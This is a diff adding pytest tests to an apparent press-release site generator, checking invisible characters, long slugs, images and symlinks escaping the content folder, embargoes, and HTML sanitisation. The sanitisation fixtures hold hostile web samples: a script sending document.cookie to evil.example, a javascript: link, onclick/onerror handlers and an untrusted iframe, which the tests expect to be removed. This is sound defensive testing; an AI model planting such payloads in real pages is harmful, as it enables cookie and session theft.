@@ -10,7 +10,7 @@ import shutil
 from pathlib import Path
 
 import pytest
-from support.site import SAMPLE_CONTENT, site_settings
+from support.site import SAMPLE_CONTENT, build, read_html, site_settings
 
 from pressroom.validation.site_check import check_site
 
@@ -207,3 +207,307 @@ def test_people_yaml_with_an_impossible_date_is_text_not_a_crash(content):
     assert [(Path(p.path).name, p.field, p.what) for p in problems] == [
         ("people.yaml", "people.0.born", "'born' is not a field of the person")
     ]
+
+
+# --- Invisible characters ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("escape", "shown"), [("\\f", "U+000C"), ("\\a", "U+0007"), ("\\0", "U+0000"), ("\\uFFFE", "U+FFFE")]
+)
+def test_control_characters_in_a_text_field_are_an_error_with_the_fix(content, escape, shown):
+    text = HEAD.replace("title: Charity responds to the spending review", f'title: "Charity{escape}responds"')
+    problem = only(problems_of(content, text + BODY))
+    assert (problem.line, problem.field) == (2, "title")
+    assert f"contains the invisible character {shown}" in problem.what
+    assert "delete it" in problem.fix
+
+
+def test_raw_control_character_in_the_front_matter_names_its_line_and_field(content):
+    text = HEAD.replace("A short standfirst.", "A short\x07 standfirst.")
+    problem = only(problems_of(content, text + BODY))
+    assert (problem.line, problem.field) == (5, "summary")
+    assert "U+0007 (bell)" in problem.what
+
+
+@pytest.mark.parametrize("character", ["\x07", "\x00", "\ufffe", "\x1b"])
+def test_control_characters_in_the_body_are_an_error_naming_the_line(content, character):
+    problem = only(problems_of(content, HEAD + BODY + f"Second line.\nThird{character} line.\n"))
+    assert (problem.line, problem.field) == (9, "body")
+    assert "invisible character" in problem.what
+
+
+def test_form_feed_in_the_body_becomes_a_paragraph_break(content):
+    text = HEAD + "---\nEnd of page one.\x0cStart of page two.\n"
+    (content / "releases" / "release.md").write_text(text, encoding="utf-8")
+    result = check(content)
+    assert result.errors == []
+    [(_, document)] = result.sources.values()
+    assert document.markdown == "End of page one.\n\nStart of page two.\n"
+
+
+# --- Names too long for a file system ------------------------------------------------------------
+
+
+def test_title_too_long_for_a_file_name_is_an_error_with_the_limit(content):
+    text = HEAD.replace("Charity responds to the spending review", "Word " * 60)
+    problem = only(problems_of(content, text + BODY))
+    assert (problem.line, problem.field) == (2, "title")
+    assert "limited to 255 bytes" in problem.what and "at most 200" in problem.what
+    assert "shorter 'slug:'" in problem.fix
+
+
+def test_slug_too_long_is_an_error_with_the_limit(content):
+    problem = only(problems_of(content, HEAD + "slug: " + "a" * 300 + "\n" + BODY))
+    assert (problem.line, problem.field) == (6, "slug")
+    assert "is 300 characters long" in problem.what and "255 bytes" in problem.what
+
+
+def test_title_without_letters_needs_a_slug(content):
+    text = HEAD.replace("Charity responds to the spending review", "'!!!'")
+    problem = only(problems_of(content, text + BODY))
+    assert (problem.field, problem.fix) == ("title", "add a 'slug:' line, for example 'slug: our-response'")
+
+
+# --- Images and links that leave content/ --------------------------------------------------------
+
+IMAGE = "image:\n  src: images/photo.jpg\n  alt: A photo\n"
+
+
+def test_image_whose_bytes_are_not_an_image_is_an_error(content):
+    (content / "images").mkdir()
+    (content / "images" / "photo.jpg").write_text("root:x:0:0:root:/root:/bin/bash\n")
+    problem = only(problems_of(content, HEAD + IMAGE + BODY))
+    assert (problem.line, problem.field) == (7, "image.src")
+    assert "is not a real JPEG, PNG, WebP or GIF image" in problem.what
+
+
+def test_real_image_is_accepted(content):
+    from PIL import Image
+
+    (content / "images").mkdir()
+    Image.new("RGB", (4, 4)).save(content / "images" / "photo.jpg")
+    assert problems_of(content, HEAD + IMAGE + BODY) == []
+
+
+def test_image_path_leading_outside_content_is_an_error(content):
+    from PIL import Image
+
+    Image.new("RGB", (4, 4)).save(content.parent / "secret.png")
+    text = HEAD + "image:\n  src: ../secret.png\n  alt: A photo\n" + BODY
+    problem = only(problems_of(content, text))
+    assert problem.field == "image.src"
+    assert "leads outside the content folder" in problem.what
+
+
+def test_symlink_to_a_file_outside_content_is_an_error(content):
+    (content.parent / "passwd").write_text("root:x:0:0\n")
+    (content / "images").mkdir()
+    (content / "images" / "team-photo.png").symlink_to(content.parent / "passwd")
+    problem = only(check(content).errors)
+    assert Path(problem.path).name == "team-photo.png"
+    assert "outside the content folder" in problem.what
+
+
+@pytest.mark.parametrize("loop", ["self", "ancestor"])
+def test_symlink_loop_is_an_error_not_a_hang(content, loop):
+    if loop == "self":
+        (content / "releases" / "again").symlink_to(content / "releases" / "again")
+    else:
+        (content / "releases" / "again").symlink_to(content)
+    (content / "releases" / "release.md").write_text(HEAD + BODY, encoding="utf-8")
+    problem = only(check(content).errors)
+    assert Path(problem.path).name == "again"
+    assert "loop" in problem.what or "contains it" in problem.what
+
+
+# --- A whole build: hidden broken releases stay out of the way; the publication moment -----------
+
+NOW = "2025-06-01T09:00+01:00"
+EMBARGOED = (
+    HEAD.replace("Charity responds to the spending review", "Embargo lifted this morning").replace(
+        "date: 2022-06-01", "date: 2025-05-20"
+    )
+    + "embargo: 2025-05-28T00:01+01:00\n"
+    + "---\nThe body.\x0cA page break from a word processor.\n"
+)
+BROKEN_DRAFT = HEAD.replace("Charity responds to the spending review", "Broken draft") + (
+    "status: draft\nspokespeople: [nobody-we-know]\n" + BODY
+)
+BROKEN_EMBARGOED = HEAD.replace("Charity responds to the spending review", "Broken embargoed") + (
+    "embargo: 2030-01-01T00:01+00:00\ntopics: [no-such-topic]\n" + BODY
+)
+
+
+@pytest.fixture(scope="module")
+def hostile_content(tmp_path_factory) -> Path:
+    root = tmp_path_factory.mktemp("hostile") / "content"
+    shutil.copytree(SAMPLE_CONTENT, root)
+    for name, text in (
+        ("embargo-lifted.md", EMBARGOED),
+        ("broken-draft.md", BROKEN_DRAFT),
+        ("broken-embargoed.md", BROKEN_EMBARGOED),
+    ):
+        (root / "releases" / name).write_text(text, encoding="utf-8")
+    return root
+
+
+@pytest.fixture(scope="module")
+def hostile_site(hostile_content) -> Path:
+    return build(hostile_content, hostile_content.parent / "output", PRESSROOM_NOW=NOW)
+
+
+def test_broken_hidden_releases_do_not_block_the_build_and_are_left_out(hostile_site):
+    built = {path.relative_to(hostile_site).as_posix() for path in hostile_site.rglob("*.html")}
+    assert "releases/2025/embargo-lifted-this-morning/index.html" in built
+    assert not [path for path in built if "broken" in path]
+    assert "Broken" not in (hostile_site / "feeds" / "all.atom.xml").read_text(encoding="utf-8")
+
+
+def test_broken_hidden_releases_are_still_reported_apart_from_blocking_errors(hostile_content, capsys):
+    from pressroom.validation.site_check import report
+
+    result = check(hostile_content, PRESSROOM_NOW=NOW)
+    assert sorted((Path(p).name, reason) for p, reason in result.held_back.items()) == [
+        ("broken-draft.md", "draft"),
+        ("broken-embargoed.md", "embargoed"),
+    ]
+    assert len(result.errors) == 2  # `invoke check` still fails on them
+    public = result.for_public_build()
+    assert public.errors == []
+    text = report(public)
+    assert "Not public yet (draft, embargoed), so a public build leaves these out and goes on" in text
+    assert "broken-draft.md:7: spokespeople[1]: no person with the id 'nobody-we-know'" in text
+
+
+def test_a_preview_which_would_show_them_stops_on_their_errors(hostile_content, tmp_path):
+    from pressroom.validation import ContentInvalid
+
+    with pytest.raises(ContentInvalid) as stopped:
+        build(hostile_content, tmp_path / "preview", PRESSROOM_NOW=NOW, PRESSROOM_PREVIEW=True)
+    assert "broken-draft.md:7" in str(stopped.value)
+
+
+def test_a_broken_release_that_would_be_public_still_blocks(hostile_content):
+    broken = hostile_content.parent / "public-broken" / "content"
+    shutil.copytree(hostile_content, broken)
+    (broken / "releases" / "broken-public.md").write_text(
+        HEAD + "spokespeople: [nobody-we-know]\n" + BODY, encoding="utf-8"
+    )
+    result = check(broken, PRESSROOM_NOW=NOW).for_public_build()
+    assert [Path(problem.path).name for problem in result.errors] == ["broken-public.md"]
+
+
+def test_release_is_published_at_the_later_of_its_date_and_embargo(hostile_site):
+    import json
+
+    import feedparser
+
+    page = read_html(hostile_site, "releases/2025/embargo-lifted-this-morning/")
+    assert page.select_one(".release-date time")["datetime"] == "2025-05-28T00:01:00+01:00"
+    [data] = [json.loads(tag.string) for tag in page.select('script[type="application/ld+json"]')]
+    published = [node.get("datePublished") for node in data.get("@graph", [data])]
+    assert "2025-05-28T00:01:00+01:00" in published
+    feed = feedparser.parse((hostile_site / "feeds" / "all.atom.xml").read_bytes())
+    [entry] = [entry for entry in feed.entries if entry.title == "Embargo lifted this morning"]
+    assert entry.published == "2025-05-28T00:01:00+01:00"
+
+
+def test_page_break_in_the_body_becomes_a_paragraph_and_feeds_stay_well_formed(hostile_site):
+    from xml.etree import ElementTree
+
+    page = read_html(hostile_site, "releases/2025/embargo-lifted-this-morning/")
+    paragraphs = [p.get_text() for p in page.select(".release-body p")]
+    assert "A page break from a word processor." in paragraphs
+    for feed in (hostile_site / "feeds").rglob("*.xml"):
+        ElementTree.parse(feed)
+
+
+# --- Sanitised bodies ----------------------------------------------------------------------------
+
+HOSTILE_BODY = """---
+The lead paragraph.
+
+<script>fetch('https://evil.example/?c=' + document.cookie)</script>
+
+A [harmless-looking link](javascript:alert(1)) and <span onclick="steal()">a span</span>.
+
+<iframe src="https://evil.example/frame"></iframe>
+
+<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Our film"></iframe>
+
+| Year | Families |
+|:-----|---------:|
+| 2024 | 1,200 |
+"""
+
+
+def test_check_names_everything_the_sanitiser_would_remove_with_its_line(content):
+    problems = problems_of(content, HEAD + HOSTILE_BODY)
+    assert sorted((p.line, p.field, p.what) for p in problems) == [
+        (9, "body", "has a <script> element, which is removed from the page"),
+        (
+            11,
+            "body",
+            "has the address 'javascript:alert(1)' of <a>, which is removed from the page",
+        ),
+        (11, "body", "has the event handler onclick= on <span>, which is removed from the page"),
+        (
+            13,
+            "body",
+            "has the embed of https://evil.example/frame, from a host not on the list, "
+            "which is removed from the page",
+        ),
+    ]
+    assert all(problem.severity == "error" for problem in problems)
+
+
+def test_notes_to_editors_are_checked_too(content):
+    text = HEAD + 'notes_to_editors: |\n  About us <img src="x.png" onerror="steal()">\n' + BODY
+    problem = only(problems_of(content, text))
+    assert (problem.line, problem.field) == (6, "notes_to_editors")
+    assert "onerror=" in problem.what
+
+
+def test_the_reader_renders_hostile_markdown_without_any_of_it(content):
+    from bs4 import BeautifulSoup
+
+    from pressroom.content_model.reader import PressroomReader
+
+    reader = PressroomReader(site_settings(content, content.parent / "output"))
+    html = BeautifulSoup(reader.render_markdown(HOSTILE_BODY.removeprefix("---\n")), "html.parser")
+    assert html.find("script") is None
+    assert [frame.get("src") for frame in html.find_all("iframe")] == [
+        None,
+        "https://www.youtube-nocookie.com/embed/abc",
+    ]
+    assert html.find("a", string="harmless-looking link").get("href") is None
+    assert not [tag for tag in html.find_all(True) if any(name.startswith("on") for name in tag.attrs)]
+
+
+LEGITIMATE_BODY = """---
+The lead paragraph, with a footnote.[^1] Read [our vision]({filename}/pages/our-vision.md).
+
+<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Our film"></iframe>
+
+| Year | Families |
+|:-----|---------:|
+| 2024 | 1,200 |
+
+<figure><img src="https://example.org/photo.jpg" alt="A family"><figcaption>A family</figcaption></figure>
+
+[^1]: The source of the figure.
+"""
+
+
+def test_what_a_release_needs_passes_check_and_reaches_the_page(content, tmp_path):
+    shutil.copytree(SAMPLE_CONTENT / "pages", content / "pages", dirs_exist_ok=True)
+    (content / "releases" / "release.md").write_text(HEAD + LEGITIMATE_BODY, encoding="utf-8")
+    assert check(content).problems == []
+    site = build(content, tmp_path / "output", PRESSROOM_NOW=NOW)
+    body = read_html(site, "releases/2022/charity-responds-to-the-spending-review/").select_one("main")
+    assert body.find("iframe")["src"] == "https://www.youtube-nocookie.com/embed/abc"
+    assert [cell.get("style") for cell in body.select("th")] == ["text-align:left", "text-align:right"]
+    assert body.select_one("figure img")["src"] == "https://example.org/photo.jpg"
+    assert body.select_one("sup a")["href"] == "#fn:1"
+    assert body.find("a", string="our vision")["href"] == "/our-vision-the-1001-critical-days/"
